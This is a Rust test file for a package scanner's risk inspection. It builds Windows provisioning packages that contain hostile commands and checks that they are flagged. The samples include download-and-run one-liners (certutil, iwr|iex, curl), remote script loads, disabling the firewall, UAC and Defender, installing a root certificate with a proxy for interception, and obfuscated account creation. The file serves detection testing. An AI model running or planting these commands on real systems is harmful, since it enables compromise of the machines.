//! `inspect --risk` on packages made to attack, on harmless packages that look like attacks, and on real ones.

mod unread;

use std::collections::BTreeSet;
use std::fs;
use std::io::{Cursor, Write};
use std::path::{Path, PathBuf};
use std::process::Command;

use ppkgc::risk::class_named;
use serde_json::Value;
use tempfile::TempDir;

use crate::json_documents::matches;
use crate::support::{JUDGES_REQUIRED, copy_folder, corpus, packages, ppkgc, sample, succeed, tree, unavailable};

/// The minimum percentage of the findings expected by the corpus that must be found.
const MIN_PERCENT: usize = 95;
/// Packages that are not read, so that nothing is said about their content: solid resources need the decoder of LZMS.
const UNREAD: [&str; 1] = ["hide-solid"];

/// The packages, made by the script of the corpus.
fn made() -> TempDir {
    let out = TempDir::new().unwrap();
    let script = corpus().join("risk/make_corpus.py");
    let made = Command::new("python3").arg(&script).arg(out.path()).output();
    match made {
        Ok(made) if made.status.success() => out,
        Ok(made) if !String::from_utf8_lossy(&made.stderr).contains("wimlib-imagex") => {
            panic!("the script fails: {}", String::from_utf8_lossy(&made.stderr))
        }
        Ok(_) => unavailable("wimlib-imagex", JUDGES_REQUIRED),
        Err(_) => unavailable("python3 for the corpus", JUDGES_REQUIRED),
    }
}

fn report(package: &Path, more: &[&str]) -> (Value, i32) {
    let mut command = ppkgc(Path::new("."), ["inspect", "--risk", "--format", "json"]);
    let output = command.arg(package).args(more).output().unwrap();
    let document = serde_json::from_slice(&output.stdout).unwrap();
    matches(&document, "risk");
    (document, output.status.code().unwrap())
}

fn found(report: &Value) -> BTreeSet<[String; 3]> {
    let text = |finding: &Value, key: &str| finding[key].as_str().unwrap().to_lowercase();
    let findings = report["findings"].as_array().unwrap().iter();
    findings.map(|finding| ["class", "severity", "subject"].map(|key| text(finding, key))).collect()
}

#[test]
fn the_corpus_is_judged_as_expected() {
    let out = made();
    let (mut expected_count, mut missing, mut wrong) = (0, Vec::new(), Vec::new());
    for kind in ["hostile", "benign"] {
        for path in sorted(&out.path().join(kind)) {
            let name = path.file_name().unwrap().to_str().unwrap();
            let Some(stem) = name.strip_suffix(".expected.json") else { continue };
            let expected: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
            let package = path.with_file_name(format!("{stem}.ppkg"));
            let (report, code) = report(&package, &[]);
            let (own, theirs) = (found(&report), found(&expected));
            expected_count += theirs.len();
            missing.extend(theirs.difference(&own).map(|finding| format!("{stem}: {finding:?}")));
            if UNREAD.contains(&stem) {
                assert_eq!((&report["complete"], code), (&Value::Bool(false), 2), "{stem}");
                continue;
            }
            let never = expected["never"].as_array().unwrap();
            wrong.extend(
                own.iter().filter(|[class, ..]| never.iter().any(|no| no == class)).map(|f| format!("{stem}: {f:?}")),
            );
            let (verdict, wanted) = (report["verdict"].as_str().unwrap(), expected["verdict"].as_str().unwrap());
            let is_right = if kind == "hostile" || wanted == "high" { verdict == wanted } else { verdict != "high" };
            if !is_right {
                wrong.push(format!("{stem}: {verdict} in place of {wanted}"));
            }
            assert_eq!(code, i32::from(verdict == "high"), "{stem}");
            for allow in expected["allow_only"].as_array().unwrap() {
                let patterns = allow["patterns"].as_array().unwrap().iter().map(|pattern| pattern.as_str().unwrap());
                let arguments: Vec<&str> = ["--allow-only"].into_iter().chain(patterns).collect();
                assert_eq!(i64::from(self::report(&package, &arguments).1), allow["exit"], "{stem} {arguments:?}");
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    let found = expected_count - missing.len();
    assert!(found * 100 >= expected_count * MIN_PERCENT, "{found} of {expected_count}: {missing:#?}");
}

#[test]
fn real_packages_have_no_high_verdict() {
    let corpus = corpus();
    for package in packages(&corpus).into_iter().chain(sorted(&corpus.join("packages"))) {
        let name = package.display();
        let (report, code) = report(&package, &[]);
        assert_ne!(report["verdict"], "high", "{name}: {:#?}", report["findings"]);
        assert_eq!((&report["complete"], code), (&Value::Bool(true), 0), "{name}");
    }
}

#[test]
fn accepted_findings_stay_in_the_report() {
    let folder = TempDir::new().unwrap();
    let package = spec(&folder, "certutil -urlcache -f http://example.com/a.exe a.exe & a.exe");
    let (before, code) = report(&package, &[]);
    assert_eq!((before["verdict"].as_str(), code), (Some("high"), 1), "{before:#}");
    let subject = "ProvisioningCommands/DeviceContext/$(__PackageID)/Default/CommandLine";
    let (after, code) = report(&package, &["--accept", &format!("download-and-run={subject}")]);
    assert_eq!((after["verdict"].as_str(), code), (Some("medium"), 0));
    let accepted = after["findings"].as_array().unwrap().iter().filter(|finding| finding["accepted"] == true);
    assert_eq!(accepted.map(|finding| finding["class"].as_str().unwrap()).collect::<Vec<_>>(), ["download-and-run"]);
    assert_eq!(report(&package, &["--fail-on", "never"]).1, 0);
    assert_eq!(report(&package, &["--allow-only", "Personalization/**"]).1, 3);
    assert_eq!(report(&package, &["--allow-only", "Personalization/**", "ProvisioningCommands/**"]).1, 1);
}

#[test]
fn a_file_that_cannot_be_read_is_not_judged() {
    let folder = TempDir::new().unwrap();
    let package = folder.path().join("x.ppkg");
    for bytes in [b"".as_slice(), b"MSWIM\0\0\0", &[0xff; 4096]] {
        fs::write(&package, bytes).unwrap();
        let (report, code) = report(&package, &[]);
        assert_eq!((&report["complete"], code), (&Value::Bool(false), 2));
    }
}

#[test]
fn bytes_that_differ_never_stop_the_program() {
    let bytes = fs::read(&packages(&corpus())[0]).unwrap();
    let folder = TempDir::new().unwrap();
    let package = folder.path().join("x.ppkg");
    let step = bytes.len() / 40 + 1;
    for at in (0..bytes.len()).step_by(step) {
        let mut bytes = bytes.clone();
        bytes[at] ^= 0x41;
        fs::write(&package, &bytes).unwrap();
        assert!(matches!(report(&package, &[]).1, 0..=3), "byte {at}");
    }
}

#[test]
fn sarif_names_rules_and_techniques() {
    let folder = TempDir::new().unwrap();
    let package = spec(&folder, "powershell irm https://example.com/i | iex");
    let mut command = ppkgc(folder.path(), ["inspect", "--risk", "--format", "sarif"]);
    let log: Value = serde_json::from_slice(&command.arg(&package).output().unwrap().stdout).unwrap();
    matches(&log, "risk-sarif");
    let results = log["runs"][0]["results"].as_array().unwrap();
    let worst = &results[0];
    assert_eq!((worst["ruleId"].as_str(), worst["level"].as_str()), (Some("risk/download-and-run"), Some("error")));
    assert_eq!(worst["taxa"][0]["id"], "T1105");
    for result in results {
        assert!(class_named(result["ruleId"].as_str().unwrap().strip_prefix("risk/").unwrap()).is_some());
    }
}

/// A package of our own that runs this command.
fn spec(folder: &TempDir, command: &str) -> PathBuf {
    let text = format!(
        "[package]\nname = \"Job\"\nversion = \"1.0\"\nowner = \"ITAdmin\"\n\n[settings]\n\
         \"ProvisioningCommands/DeviceContext/CommandLine\" = {command:?}\n"
    );
    fs::write(folder.path().join("spec.toml"), text).unwrap();
    let output = ppkgc(folder.path(), ["build", "spec.toml", "-o", "out"]).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    folder.path().join("out/Job.ppkg")
}

/// A package of our own with a file, and a command that is given it.
fn with_file(name: &str, bytes: &[u8], command: &str) -> (TempDir, PathBuf) {
    let folder = TempDir::new().unwrap();
    fs::write(folder.path().join(name), bytes).unwrap();
    let text = format!(
        "[package]\nname = \"Job\"\nversion = \"1.0\"\nowner = \"ITAdmin\"\n\n\
         [[command]]\nrun = {command:?}\nfiles = [{name:?}]\n"
    );
    fs::write(folder.path().join("spec.toml"), text).unwrap();
    let output = ppkgc(folder.path(), ["build", "spec.toml", "-o", "out"]).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let package = folder.path().join("out/Job.ppkg");
    (folder, package)
}

/// Fetches and runs, in PowerShell.
const FETCH: &str = "iex (iwr https://files.example.com/a.ps1)\r\n";

#[test]
fn a_file_given_to_a_command_is_read_whatever_its_name() {
    for (name, run) in [
        ("data.dat", "powershell -c \"gc data.dat -raw | iex\""),
        ("notes.txt", "cmd /c ren notes.txt a.ps1 & powershell -f a.ps1"),
        ("plain", "cmd /c copy plain a.cmd & a.cmd"),
    ] {
        let (_folder, package) = with_file(name, FETCH.as_bytes(), run);
        assert_eq!(report(&package, &[]).0["verdict"], "high", "{name}");
    }
    let (_folder, package) = with_file("readme.txt", FETCH.as_bytes(), "xcopy readme.txt C:\\Contoso");
    assert_eq!(
        report(&package, &[]).0["verdict"],
        "medium",
        "a text that is only copied is not judged as a script that runs"
    );
}

#[test]
fn a_file_that_runs_is_read_whatever_its_first_bytes() {
    let noise: Vec<u8> = (0..600_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    let packed: Vec<u8> = [noise.as_slice(), b"\r\n", FETCH.as_bytes(), noise.as_slice()].concat();
    for (name, start, run) in [
        ("a.cmd", b"MZ\r\npowershell ".as_slice(), "cmd /c a.cmd"),
        ("a.ps1", b"GIF89a=1\r\n", "powershell -File a.ps1"),
        ("notes.pdf", b"%PDF-1.4\r\npowershell ", "cmd /c copy notes.pdf a.cmd & a.cmd"),
        ("app.dat", &packed, "wscript //e:vbscript app.dat"),
    ] {
        let (_folder, package) = with_file(name, &[start, FETCH.as_bytes()].concat(), run);
        assert_eq!(report(&package, &[]).0["verdict"], "high", "{name}");
    }
}

#[test]
fn a_file_is_read_as_the_program_reads_it_that_a_command_gives_it_to() {
    let task = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions><Exec><Command>cmd</Command>\
                <Arguments>/c curl http://files.example.com/a.cmd &gt; a.cmd &amp; a.cmd</Arguments></Exec></Actions></Task>";
    let remote = "<html><script src=\"http://files.example.com/a.js\"></script></html>";
    for (name, text, run, class) in [
        ("a.txt", "advfirewall\r\nset allprofiles state off\r\n", "netsh exec a.txt", "weakens-firewall"),
        ("a.txt", "advfirewall set allprofiles state off", "netsh -f a.txt", "weakens-firewall"),
        ("a.xml", task, "schtasks /create /tn a /xml a.xml", "download-and-run"),
        ("a.xml", task, "powershell Register-ScheduledTask a -Xml (gc a.xml -raw)", "download-and-run"),
        ("a.hta", remote, "mshta a.hta", "download-and-run"),
        ("a.html", remote, "mshta a.html", "download-and-run"),
        ("a.wsf", "<job><script src=\"http://files.example.com/a.js\"/></job>", "cscript a.wsf", "download-and-run"),
        ("a.ps1", "using module \\\\files.example.com\\share\\a\r\n", "powershell -File a.ps1", "remote-path"),
    ] {
        let (_folder, package) = with_file(name, text.as_bytes(), run);
        let (report, _) = report(&package, &[]);
        let expected = [class, "high", name].map(str::to_owned);
        assert!(found(&report).contains(&expected), "{run}: {report:#}");
    }
}

#[test]
fn a_page_needs_no_command_to_run_what_it_loads() {
    let remote = "<html><script src=\"http://files.example.com/a.js\"></script></html>";
    for (name, text, verdict) in [
        ("a.html", remote, "high"),
        ("a.svg", "<svg><script href=\"http://files.example.com/a.js\"/></svg>", "high"),
        ("a.xml", remote, "medium"),
        ("a.html", "<html><script src=\"a.js\"></script></html>", "medium"),
    ] {
        let (_folder, package) = with_file(name, text.as_bytes(), "cmd /c dir");
        let (report, _) = report(&package, &[]);
        assert_eq!(report["verdict"], verdict, "{name} {text}: {report:#}");
    }
}

#[test]
fn a_finding_in_a_comment_is_milder_than_one_in_code() {
    for (name, text) in [
        ("a.ps1", format!("# {FETCH}")),
        ("a.cmd", format!("rem powershell {FETCH}")),
        ("a.vbs", format!("' powershell {FETCH}")),
        ("a.inf", format!("; powershell {FETCH}")),
    ] {
        let (_folder, package) = with_file(name, text.as_bytes(), "cmd /c dir");
        let (report, _) = report(&package, &[]);
        let expected = ["download-and-run", "medium", name].map(str::to_owned);
        assert!(found(&report).contains(&expected) && report["verdict"] == "medium", "{name} {report:#}");
    }
    let reads_itself = format!("# {FETCH}(gc $PSCommandPath)[0].Substring(2) | sort\r\n");
    let (_folder, package) = with_file("a.ps1", reads_itself.as_bytes(), "cmd /c dir");
    assert_eq!(report(&package, &[]).0["verdict"], "high");
    let text = "Windows Registry Editor Version 5.00\r\n; reg import \\\\srv01\\share\\a.reg\r\n";
    let (_folder, package) = with_file("a.reg", text.as_bytes(), "reg import a.reg");
    assert!(!found(&report(&package, &[]).0).iter().any(|[class, ..]| class == "remote-path"));
}

fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut archive = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in files {
        archive.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        archive.write_all(bytes).unwrap();
    }
    archive.finish().unwrap().into_inner()
}

#[test]
fn scripts_in_archives_are_read_and_the_rest_is_named() {
    let inner = zip_of(&[("a.ps1", FETCH.as_bytes())]);
    let outer = zip_of(&[("read.txt", b"a"), ("inner.zip", &inner)]);
    for (name, bytes, run, verdict) in [
        ("a.zip", &outer, "cmd /c dir", "high"),
        ("a.docx", &inner, "cmd /c ren a.docx a.zip & tar -xf a.zip", "high"),
        ("a.docx", &inner, "cmd /c dir", "medium"),
        ("a.msix", &inner, "powershell Add-AppxPackage a.msix", "medium"),
    ] {
        let (_folder, package) = with_file(name, bytes, run);
        let (report, code) = report(&package, &[]);
        assert_eq!(
            (report["verdict"].as_str(), &report["complete"]),
            (Some(verdict), &Value::Bool(true)),
            "{name} {run}"
        );
        assert_eq!(code, i32::from(verdict == "high"));
        assert!(!found(&report).iter().any(|[class, ..]| class == "opaque-file"), "{name}: {report:#}");
    }
    let cut = &outer[..outer.len() - 40];
    for bytes in [cut, b"PK\x03\x04".as_slice(), b"7z\xbc\xaf\x27\x1c\0\x04", b"Rar!\x1a\x07\0"] {
        let (_folder, package) = with_file("a.zip", bytes, "cmd /c dir");
        let (report, _) = report(&package, &[]);
        assert!(found(&report).contains(&["opaque-file", "medium", "a.zip"].map(str::to_owned)), "{report:#}");
        assert_eq!(report["complete"], true);
    }
}

#[test]
fn an_account_is_compared_with_what_the_project_shows() {
    let dir = TempDir::new().unwrap();
    let here = dir.path();
    let text = "[package]\nname = \"Job\"\nversion = \"1.0\"\nowner = \"ITAdmin\"\n\n[[account]]\nname = \"helper\"\n\
                password = \"Granite-5-Zebra\"\ngroup = \"Standard Users\"\n";
    fs::write(here.join("spec.toml"), text).unwrap();
    succeed(&mut ppkgc(here, ["build", "spec.toml", "-o", "out", "--quiet"]));
    assert_ne!(report(&here.join("out/Job.ppkg"), &[]).0["verdict"], "high");
    for (file, leaf, from, to) in [
        (".provxml", "LocalUserGroup", "value=\"1\"", "value=\"2\""),
        (".provxml", "Password", "Granite-5-Zebra", "Basalt-7-Lynx"),
        ("AnswerFile.xml", "Password", "Granite-5-Zebra", "Basalt-7-Lynx"),
        ("AnswerFile.xml", "UserGroup", "Standard Users", "Administrators"),
        ("AnswerFile.xml", "UserGroup", "UserGroup>", "HomeDir>"),
    ] {
        let report = report_with(here, (file, leaf), from, to);
        let differs = |finding: &[String; 3]| finding[0] == "disagreement" && finding[2].contains(&leaf.to_lowercase());
        assert!(found(&report).iter().any(differs), "{file} {leaf}: {report:#}");
        assert!(!report.to_string().contains("Basalt-7-Lynx"), "{report:#}");
    }
}

#[test]
fn a_network_is_compared_with_what_the_project_shows() {
    let dir = TempDir::new().unwrap();
    let here = dir.path();
    let text = "[package]\nname = \"Job\"\nversion = \"1.0\"\n\n[[wifi]]\nssid = \"Corp\"\nsecurity = \"WPA2-Personal\"\n\
                key = \"Granite-5-Zebra\"\nauto_connect = false\n";
    fs::write(here.join("spec.toml"), text).unwrap();
    succeed(&mut ppkgc(here, ["build", "spec.toml", "-o", "out", "--quiet"]));
    assert_eq!(report(&here.join("out/Job.ppkg"), &[]).0["verdict"], "low");
    for (from, to, name, severity) in [
        ("Granite-5-Zebra", "Basalt-7-Lynx", "securitykey", "high"),
        ("WPA2PSK", "WPA3SAE", "securitytype", "high"),
        ("manual", "auto", "autoconnect", "high"),
        ("WlanXml", "Wlan", "securitykey", "medium"),
    ] {
        let report = report_with(here, (".provxml", "name=\"WlanXml\""), from, to);
        let differs = |[class, how_bad, subject]: &[String; 3]| {
            class == "disagreement" && how_bad == severity && subject.contains("[corp]") && subject.ends_with(name)
        };
        assert!(found(&report).iter().any(differs), "{name}: {report:#}");
        assert!(!report.to_string().contains("Basalt-7-Lynx"), "{report:#}");
    }
}

#[test]
fn what_becomes_part_of_a_document_or_of_none_is_no_disagreement() {
    let dir = TempDir::new().unwrap();
    let here = dir.path();
    let vpn = "ConnectivityProfiles/VPN/VPNSetting/VPNConfig[Corp]/VPNSettings";
    let app = "UniversalAppInstall/UserContextApp/Application[Contoso.App_8wekyb3d8bbwe]";
    let text = format!(
        "[package]\nname = \"Job\"\nversion = \"1.0\"\n\n[settings]\n\"{vpn}/ProfileType\" = \"Native\"\n\
         \"{vpn}/RememberCredentials\" = true\n\"{app}/ApplicationFile\" = {{ file = \"a.appx\" }}\n\
         \"{app}/DeploymentOptions\" = \"None\"\n"
    );
    fs::write(here.join("spec.toml"), text).unwrap();
    fs::write(here.join("a.appx"), "PK\u{3}\u{4}").unwrap();
    succeed(&mut ppkgc(here, ["build", "spec.toml", "-o", "out", "--quiet"]));
    let (report, _) = report(&here.join("out/Job.ppkg"), &[]);
    assert!(!found(&report).iter().any(|[class, ..]| class == "disagreement"), "{report:#}");
    let report =
        report_with(here, (".provxml", "HostedInstall"), "DeploymentOptions=&quot;0", "DeploymentOptions=&quot;1");
    assert!(found(&report).iter().any(|[class, ..]| class == "disagreement"), "{report:#}");
}

/// What is said of the package `out/Job.ppkg` after a text was replaced in it, in the lines with a word of one kind of
/// file.
fn report_with(here: &Path, (file, word): (&str, &str), from: &str, to: &str) -> Value {
    let folder = TempDir::new_in(here).unwrap();
    let folder = folder.path().join("tree");
    let extracted = folder.to_str().unwrap();
    succeed(&mut ppkgc(here, ["inspect", "out/Job.ppkg", "--extract", extracted]));
    let mut changed = 0;
    for (path, bytes) in tree(&folder).into_iter().filter(|(path, _)| path.ends_with(file)) {
        let text = String::from_utf8(bytes).unwrap();
        let lines = text.split_inclusive('\n').map(|line| match line.contains(word) {
            true => line.replace(from, to),
            false => line.to_owned(),
        });
        let other: String = lines.collect();
        changed += usize::from(other != text);
        fs::write(folder.join(path), other).unwrap();
    }
    assert_eq!(changed, 1, "{file} {word}");
    succeed(&mut ppkgc(here, ["pack", extracted, "-o", "other.ppkg", "--no-catalog"]));
    let (report, _) = report(&here.join("other.ppkg"), &[]);
    fs::remove_file(here.join("other.ppkg")).unwrap();
    report
}

#[test]
fn scripts_are_found_in_every_encoding_and_behind_any_length() {
    let run = "powershell -File a.ps1";
    let wide: Vec<u8> = format!("\u{feff}{FETCH}").encode_utf16().flat_map(u16::to_le_bytes).chain([b'\n']).collect();
    let long = format!("{}{FETCH}", format!("{}\n", " ".repeat(1023)).repeat(3 << 10));
    let commented = format!("# from <# to\r\n{FETCH}# #>\r\n");
    for bytes in [wide.as_slice(), long.as_bytes(), commented.as_bytes()] {
        let (_folder, package) = with_file("a.ps1", bytes, run);
        let (report, code) = report(&package, &[]);
        assert_eq!((report["verdict"].as_str(), code), (Some("high"), 1));
    }
}

#[test]
fn a_long_text_is_not_judged_and_a_long_program_is() {
    let text = format!("{}\n", "rem ".repeat(256)).repeat(9 << 10);
    let (_folder, package) = with_file("a.cmd", text.as_bytes(), "cmd /c a.cmd");
    let (judged, code) = report(&package, &[]);
    assert_eq!((&judged["complete"], code), (&Value::Bool(false), 2));
    let mut state = 1_u32;
    let mut noise = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 24) as u8
    };
    let program: Vec<u8> = b"MZ".iter().copied().chain((0..9 << 20).map(|_| noise())).collect();
    let (_folder, package) = with_file("setup.exe", &program, "setup.exe /S");
    let (judged, code) = report(&package, &[]);
    assert_eq!((&judged["complete"], judged["verdict"].as_str(), code), (&Value::Bool(true), Some("medium"), 0));
}

#[test]
fn an_export_of_the_registry_is_judged_by_its_values() {
    let export = |key: &str, value: &str| format!("Windows Registry Editor Version 5.00\r\n\r\n[{key}]\r\n{value}\r\n");
    let system = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System";
    for (key, value, verdict) in [
        (system, "\"EnableLUA\"=dword:00000000", "high"),
        (system, "\"EnableLUA\"=dword:00000001", "medium"),
        ("HKEY_LOCAL_MACHINE\\SOFTWARE\\Contoso", "\"Editor\"=\"C:\\\\Windows\\\\notepad.exe\"", "medium"),
    ] {
        let (_folder, package) = with_file("a.reg", export(key, value).as_bytes(), "reg import a.reg");
        assert_eq!(report(&package, &[]).0["verdict"], verdict, "{value}");
    }
}

#[test]
fn a_script_and_a_command_can_prepare_an_interception_together() {
    let root = b"certutil -addstore -f Root a.cer\r\n";
    for (run, is_ready) in [("a.cmd & netsh winhttp set proxy 203.0.113.5:8080", true), ("a.cmd", false)] {
        let (_folder, package) = with_file("a.cmd", root, &format!("cmd /c {run}"));
        let (report, _) = report(&package, &[]);
        assert_eq!(found(&report).iter().any(|[class, ..]| class == "interception-ready"), is_ready, "{report:#}");
    }
}

#[test]
fn lists_of_policies_and_security_templates_are_judged_by_their_values() {
    let policy = |kind: &str| {
        format!(
            "; kiosks\r\nComputer\r\nSoftware\\Policies\\Microsoft\\Windows Defender\r\nDisableAntiSpyware\r\n{kind}\r\n"
        )
    };
    let template = |value: &str| {
        format!(
            "[Unicode]\r\nUnicode=yes\r\n[Registry Values]\r\nMACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA=4,{value}\r\n"
        )
    };
    for (name, text, run, verdict) in [
        ("p.txt", policy("DWORD:1"), "LGPO.exe /t p.txt", "high"),
        ("p.txt", policy("DWORD:0"), "LGPO.exe /t p.txt", "medium"),
        ("p.txt", policy("DELETE"), "LGPO.exe /t p.txt", "medium"),
        ("t.cfg", template("0"), "secedit /configure /db a.sdb /cfg t.cfg", "high"),
        ("t.cfg", template("1"), "secedit /configure /db a.sdb /cfg t.cfg", "medium"),
    ] {
        let (_folder, package) = with_file(name, text.as_bytes(), run);
        let (report, _) = report(&package, &[]);
        assert_eq!(report["verdict"], verdict, "{text}: {report:#}");
    }
}

#[test]
fn secrets_are_hidden_in_every_layer() {
    let folder = TempDir::new().unwrap();
    for line in [
        "net user helper Zx7Kq9V^w4Rt2 /add",
        "n^et u^ser helper Zx7Kq9Vw4Rt2 /add",
        "cmd /c \"set a=Zx7Kq9&set b=Vw4Rt2&net user helper %a%%b% /add\"",
        "schtasks /create /tn a /tr b /ru helper /rp Zx7Kq9Vw4Rt2",
        "powershell net user helper (-join [char[]](90,120,55,75,113,57,86,119,52,82,116,50)) /add",
        "powershell net user helper (-join (90,120,55,75,113,57,86,119,52,82,116,50|%{[char]$_})) /add",
        "powershell net user helper ([char]90+[char]0x78+[char]55+[char]75+[char]113+[char]57+[char]86+[char]119+[char]52+[char]82+[char]116+[char]50) /add",
        "powershell net user helper ('Zx7Kq9'+[char]86+[char]119+[char]52+[char]82+[char]116+[char]50) /add",
        "powershell iex (-join [char[]](110,101,116,32,117,115,101,114,32,97,32,90,120,55,75,113,57,86,119,52,82,116,50,32,47,97,100,100))",
    ] {
        let package = spec(&folder, line);
        for format in ["human", "json", "sarif"] {
            let arguments = ["inspect", "--risk", "--fail-on", "never", "--format", format];
            let output = ppkgc(folder.path(), arguments).arg(&package).output().unwrap();
            let shown = String::from_utf8_lossy(&output.stdout).to_lowercase();
            assert!(!shown.contains("zx7kq9vw4rt2") && !shown.contains("zx7kq9v^w4rt2"), "{line} {format}: {shown}");
            let codes = ["90,120", "[char]90+", "119,52", "[char]119+[char]52", "[char]119 + [char]52"];
            assert!(!codes.iter().any(|code| shown.contains(code)), "{line} {format}: {shown}");
        }
    }
}

#[test]
fn programs_inside_settings_are_read_as_commands() {
    let folder = TempDir::new().unwrap();
    let write = |value: &str| {
        let text = format!(
            "[package]\nname = \"Job\"\nversion = \"1.0\"\nowner = \"ITAdmin\"\n\n[settings]\n\
             \"Policies/ApplicationManagement/LaunchAppAfterLogOn\" = {value:?}\n"
        );
        fs::write(folder.path().join("spec.toml"), text).unwrap();
        succeed(&mut ppkgc(folder.path(), ["build", "spec.toml", "-o", "out", "--quiet"]));
        report(&folder.path().join("out/Job.ppkg"), &[]).0["verdict"].as_str().unwrap().to_owned()
    };
    assert_eq!(write("powershell -c \"iwr https://files.example.com/a.ps1 | iex\""), "high");
    assert_eq!(write("C:\\Program Files\\Contoso\\tray.exe"), "medium");
}

fn sorted(folder: &Path) -> Vec<PathBuf> {
    let mut paths: Vec<PathBuf> = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    paths.sort();
    paths
}

#[test]
fn no_sample_is_called_dangerous() {
    let dir = tempfile::tempdir().unwrap();
    for entry in fs::read_dir(sample("")).unwrap() {
        let name = entry.unwrap().file_name();
        let job = dir.path().join(&name);
        copy_folder(&sample(name.to_str().unwrap()), &job);
        succeed(&mut ppkgc(&job, ["build", "spec.toml", "-o", "out", "--quiet"]));
        let package = tree(&job.join("out")).into_keys().find(|file| file.ends_with(".ppkg")).unwrap();
        succeed(&mut ppkgc(&job, ["inspect", "--risk", &format!("out/{package}")]));
    }
}
